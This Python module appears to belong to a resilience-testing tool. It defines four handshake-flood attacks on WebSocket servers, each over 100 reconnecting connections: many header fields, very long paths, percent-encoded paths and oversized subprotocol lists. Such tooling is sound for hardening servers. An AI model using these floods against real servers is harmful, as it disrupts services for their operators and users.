"""Floods of handshakes: each request is as dear to judge as its kind allows; the client hangs up and comes again."""

from attack import attack
from crowd import Plan, crowd
from target import Tally, Target
from wire import handshake

CONNECTIONS = 100

#: Bytes of a request: what most servers take without a word.
HEAD = 8000


def handshakes(target: Target, request: bytes) -> Tally:
    """Connections that send `request`, whatever is answered, and come again."""
    return crowd(target, Plan(request=request, answer=b"\r\n\r\n", leaves=True))


def with_fields(target: Target, fields: bytes) -> bytes:
    """A handshake with more header fields."""
    return handshake(target).removesuffix(b"\r\n") + fields + b"\r\n"


def with_target(target: Target, path: bytes) -> bytes:
    """A handshake for another path."""
    return handshake(target).replace(b"/ws", path, 1)


@attack("handshakes with many header fields", CONNECTIONS)
def header_fields(target: Target) -> Tally:
    """Fields of a few bytes, so that there are many."""
    fields = b"".join(b"X-%d: %d\r\n" % (number, number) for number in range(90))
    return handshakes(target, with_fields(target, fields))


@attack("handshakes with a long target", CONNECTIONS)
def long_targets(target: Target) -> Tally:
    """A path with as many segments as fit."""
    return handshakes(target, with_target(target, b"/a" * (HEAD // 2)))


@attack("handshakes with a target of percent signs", CONNECTIONS)
def percent_signs(target: Target) -> Tally:
    """A path in which every character has to be decoded."""
    return handshakes(target, with_target(target, b"/" + b"%41" * (HEAD // 3)))


@attack("handshakes with many subprotocols", CONNECTIONS)
def subprotocols(target: Target) -> Tally:
    """A list of subprotocols as long as a field may be, none of which the server has."""
    offered = b", ".join(b"p%d" % number for number in range(HEAD // 8))
    return handshakes(target, with_fields(target, b"Sec-WebSocket-Protocol: %b\r\n" % offered))


ATTACKS = (header_fields, long_targets, percent_signs, subprotocols)
